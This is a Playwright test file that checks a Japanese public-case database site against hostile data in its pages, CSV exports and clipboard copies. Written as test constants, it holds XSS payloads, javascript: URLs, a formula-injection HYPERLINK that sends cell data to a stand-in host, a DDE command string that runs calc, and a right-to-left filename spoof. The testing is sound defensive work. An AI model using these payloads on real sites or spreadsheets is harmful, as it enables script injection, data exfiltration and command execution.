// Data that means harm, put into published files past the maintainers' program, which refuses it. All of it is text, nothing of it runs, no link leads where it says, and the pages keep
// their shape.
import assert from "node:assert/strict";
import { showForged, useAltered } from "./support/altered.mjs";
import { parseExcelCsv } from "./support/csv.mjs";
import { cases, shards, systems } from "./support/data.mjs";
import { test } from "./support/fixtures.mjs";
import { download, expectCount, firstCsv, heading, main, region, results } from "./support/parts.mjs";

test.use({ permissions: ["clipboard-read", "clipboard-write"] });

const victim = cases.find((it) => it.documents.length && it.participants_names?.length && it.vendor && it.product && it.background);
const other = cases.find((it) => it !== victim && it.prefecture_code === victim.prefecture_code);
const system = systems.find((it) => it.name === victim.system_type);

const SCRIPT = `<script>globalThis.ran="script"</script><img src=x onerror='globalThis.ran="img"'>"><svg onload=globalThis.ran=1>`;
const FORMULA = `=HYPERLINK("https://other.example/?"&A1,"押してください")`;
const COMMAND = `+1+cmd|' /C calc'!A0`;
const LONG = `${"Donaudampfschifffahrtsgesellschaft".repeat(12)}${"ー".repeat(120)}`;
const RIGHT_TO_LEFT = "עברית ‎العربية 😀🏙️ ǅ ﷽".replace("‎", "");
const ENTITIES = "&lt;b&gt; &amp;amp; &#x3c;i&#x3e; <!-- --> ]]> ${1+1} {{1+1}} %3Cb%3E \\u003cb\\u003e";

const hostile = {
  title: `${FORMULA} ${SCRIPT}`,
  lead_organization: `@SUM(1) ${SCRIPT} ${LONG}`,
  vendor: `${COMMAND} ${SCRIPT}`,
  product: `-1+1 ${RIGHT_TO_LEFT} ${LONG}`,
  background: `${SCRIPT} ${ENTITIES} ${LONG} javascript:globalThis.ran=1`,
  process: `${FORMULA} ${RIGHT_TO_LEFT}`,
  cost_sharing: `＝1 ${SCRIPT}`,
  contact_department: `${SCRIPT}${LONG}`,
};
/** Stands in the tables for a harmful text, which takes its place in the built files. */
const past = {};
function stand(text) {
  const word = `害の${Object.keys(past).length}号`;
  past[word] = text;
  return word;
}
const harm = Object.fromEntries(Object.entries(hostile).map(([field, text]) => [field, stand(text)]));
const documentTitle = stand(`${SCRIPT} ${LONG}`);
const sourceTitle = stand(`@x ${SCRIPT}`);
const publisher = stand(`${RIGHT_TO_LEFT} ${SCRIPT}`);
const description = stand(`${SCRIPT} ${system.description} ${LONG}`);

const altered = useAltered({
  "cases.jsonl": (text) => {
    const rows = text.split("\n").filter((line) => line.trim()).map((line) => {
      const it = JSON.parse(line);
      if (it.id !== victim.id) return line;
      const documents = it.documents.map((one) => ({ ...one, title: documentTitle, url: `https://example.jp/${"a".repeat(400)}?'=&x=1` }));
      const sources = it.sources.map((one) => ({ ...one, title: sourceTitle, publisher }));
      return JSON.stringify({ ...it, ...harm, documents, sources });
    });
    return `${rows.join("\n")}\n`;
  },
  "system_types.csv": (text) => text.replace(system.description, description),
}, { past });

/** Nothing of the data has become more than text. */
async function harmless(page) {
  const found = await page.evaluate(() => ({
    ran: globalThis.ran,
    elements: [...document.querySelectorAll("main :is(script, img, iframe, object, embed, base, style, svg[onload])")].map((it) => it.outerHTML),
    handlers: [...document.querySelectorAll("main *")].filter((it) => it.getAttributeNames().some((name) => name.startsWith("on"))).length,
    links: [...document.querySelectorAll("a[href]")].map((it) => new URL(it.getAttribute("href"), document.baseURI).href).filter((href) => !/^https?:/.test(href)),
    excess: document.documentElement.scrollWidth - innerWidth,
  }));
  assert.deepEqual(found, { ran: undefined, elements: [], handlers: 0, links: [], excess: Math.min(found.excess, 0) });
}

const PLACES = [
  ["the list", `cases/?pref=${victim.prefecture_code}&scope=all`],
  ["the table of the list", `cases/?pref=${victim.prefecture_code}&scope=all&view=table`],
  ["a search for it", `cases/?q=${encodeURIComponent("<script>globalThis")}&scope=all`],
  ["its own page", `cases/${victim.id}/`],
  ["the page of another case of the prefecture", `cases/${other.id}/`],
  ["the comparison", `compare/?ids=${victim.id},${other.id}`],
  ["the page of its system type", `systems/${system.slug}/`],
  ["the system types", "systems/"],
  ["the page of its prefecture", `prefectures/${victim.prefecture_code}/`],
  ["the overview", ""],
];

for (const width of [320, 1280]) {
  for (const [name, path] of PLACES) {
    test.describe(() => {
      test.use({ viewport: { width, height: 800 } });

      test(`texts of a case that mean harm are shown as they are: ${name}, ${width} wide`, { tag: "@full" }, async ({ page, open }) => {
        await altered.show(page);
        await open(path);
        await heading(page).waitFor();
        await page.waitForLoadState("networkidle");
        for (const folded of await main(page).locator("summary").filter({ visible: true }).all()) await folded.click();
        if (!/^$|systems|another|other/.test(path) && !path.includes(other.id + "/")) {
          assert.ok((await main(page).textContent()).includes(SCRIPT), "the words are there");
        }
        await harmless(page);
      });
    });
  }
}

test("no cell of a file is a formula", async ({ page, open }) => {
  await altered.show(page);
  const checked = async (control) => {
    const rows = parseExcelCsv((await download(page, control)).bytes);
    const formulas = rows.flat().filter((cell) => /^[=+\-@＝＋－＠\t\r]/.test(cell) && !/^-[\d.]+$/.test(cell));
    assert.deepEqual(formulas, []);
    return rows.flat();
  };
  await open(`cases/?pref=${victim.prefecture_code}&scope=all`);
  assert.ok((await checked(firstCsv(page))).includes(`'${hostile.title}`));
  await open(`cases/${victim.id}/`);
  assert.ok((await checked(main(page).getByRole("button", { name: "この事例をCSVで保存" }))).includes(`'${hostile.title}`));
  await open(`compare/?ids=${victim.id},${other.id}`);
  assert.ok((await checked(firstCsv(page))).some((cell) => cell.includes(hostile.title)));
});

test("what is pasted is text, no formula, and leads to the site alone", async ({ page, open, url }) => {
  await altered.show(page);
  for (const path of [`cases/?pref=${victim.prefecture_code}&scope=all&view=table`, `compare/?ids=${victim.id},${other.id}`]) {
    await open(path);
    await main(page).getByRole("button", { name: "庁内資料に貼る" }).first().click();
    await main(page).getByText("コピーしました").first().waitFor();
    const clip = await page.evaluate(async () => {
      const [item] = await navigator.clipboard.read();
      const read = async (type) => (await item.getType(type)).text();
      // Its styles are for where it is pasted; here the policy refuses them.
      const html = (await read("text/html")).replace(/ style="[^"]*"/g, "");
      const parsed = new DOMParser().parseFromString(html, "text/html");
      return {
        text: await read("text/plain"),
        elements: [...parsed.body.querySelectorAll("*")].map((it) => it.localName),
        links: [...parsed.querySelectorAll("a")].map((it) => it.getAttribute("href")),
        cells: [...parsed.querySelectorAll("td, th")].map((it) => it.textContent),
      };
    });
    assert.deepEqual(clip.elements.filter((name) => /script|img|svg|iframe/.test(name)), []);
    assert.ok(clip.links.every((link) => link.startsWith(url())), clip.links.join(" "));
    const formula = (cell) => /^[=+\-@＝＋－＠]/.test(cell) && !/^-[\d.]+$/.test(cell);
    assert.deepEqual([...clip.cells, ...clip.text.split(/[\t\r\n]+/)].filter(formula), []);
    assert.ok(clip.cells.some((cell) => cell.includes(SCRIPT)), "the words are there");
  }
});

const ADDRESSES = ["javascript:globalThis.ran=1", " JaVaScRiPt:globalThis.ran=1", "java\tscript:globalThis.ran=1", "data:text/html,<script>alert(1)</script>", "vbscript:x", "//other.example/", "blob:x", "HTTPS:javascript", ""];
const number = shards.findIndex((ids) => ids.includes(victim.id));
const UNSEEN = "\u202egnp.exe\u202c \u0000\u0007\u001b[31m\u200b👨‍👩‍👧‍👦";

/** Values that the maintainers' program would refuse, put into its files afterwards. */
const forgery = {
  [`details-${String(number).padStart(3, "0")}`]: (file) => {
    const detail = file.details.find((it) => it.id === victim.id);
    const [first] = detail.documents;
    detail.documents = ADDRESSES.map((url, place) => ({ ...first, url, title: `文書${place} ${SCRIPT}` }));
    detail.sources = ADDRESSES.map((url, place) => ({ ...detail.sources[0], url, title: `出典${place} ${SCRIPT}` }));
    detail.background = `${UNSEEN} ${SCRIPT}`;
  },
  cases: (file) => {
    const row = file.id.indexOf(victim.id);
    file.title[row] = `${UNSEEN} ${SCRIPT}`;
    file.lead_organization[row] = `\n=1+1 ${UNSEEN}`;
  },
  terms: (file) => {
    const type = file.system_types.find((it) => it.slug === system.slug);
    type.name = `${SCRIPT}${LONG}`;
  },
  prefectures: (file) => {
    file.prefectures.find((it) => it.code === victim.prefecture_code).name = `${SCRIPT}${UNSEEN}`;
  },
  municipalities: (file) => {
    file.name = file.name.map((name) => `${SCRIPT}${name}`);
  },
  catalog: (file) => {
    for (const it of file.snapshots) {
      it.title = SCRIPT;
      it.maintainer = { name: SCRIPT, url: ADDRESSES[0] };
      for (const credit of it.credits) Object.assign(credit, { text: SCRIPT, url: ADDRESSES[0] });
    }
  },
};

for (const [name, path] of [...PLACES, ["the data", "data/"], ["the prefectures", "prefectures/"], ["what it is", "about/"]]) {
  test.describe(() => {
    test.use({ viewport: { width: 320, height: 800 } });

    test(`files forged past the program do no harm: ${name}`, { tag: "@full" }, async ({ page, open }) => {
      await showForged(page, forgery);
      await open(path);
      await heading(page).waitFor();
      await page.waitForLoadState("networkidle");
      for (const folded of await main(page).locator("summary").filter({ visible: true }).all()) await folded.click();
      await harmless(page);
    });
  });
}

test("addresses that are no web addresses are refused as links and shown with their words", async ({ page, open }) => {
  await showForged(page, forgery);
  await open(`cases/${victim.id}/`);
  const sources = region(page, "出典");
  await sources.getByText(`出典0 ${SCRIPT}`, { exact: false }).first().waitFor();
  for (const place of ADDRESSES.keys()) {
    for (const word of [`出典${place} `, `文書${place} `]) {
      assert.ok((await main(page).getByText(word).count()) > 0, word);
      assert.equal(await main(page).getByRole("link", { name: new RegExp(word) }).count(), 0, word);
    }
  }
  await main(page).getByText("出典0").first().click();
  assert.equal(await page.evaluate(() => globalThis.ran), undefined);
});

test.describe(() => {
  test.use({ viewport: { width: 320, height: 800 } });

  test("an address of the site that means harm is text too", async ({ page, open }) => {
    await open(`cases/?q=${encodeURIComponent(SCRIPT)}&scope=all`);
    await expectCount(page, 0);
    assert.ok((await results(page).textContent()).includes(SCRIPT));
    await harmless(page);
    await open(`compare/?ids=${encodeURIComponent(SCRIPT)},javascript:1`);
    await harmless(page);
    await open(`cases/?pref=${encodeURIComponent(SCRIPT)}&system=%00%E2%80%AE&sort=${encodeURIComponent("javascript:1")}`);
    await harmless(page);
  });
});
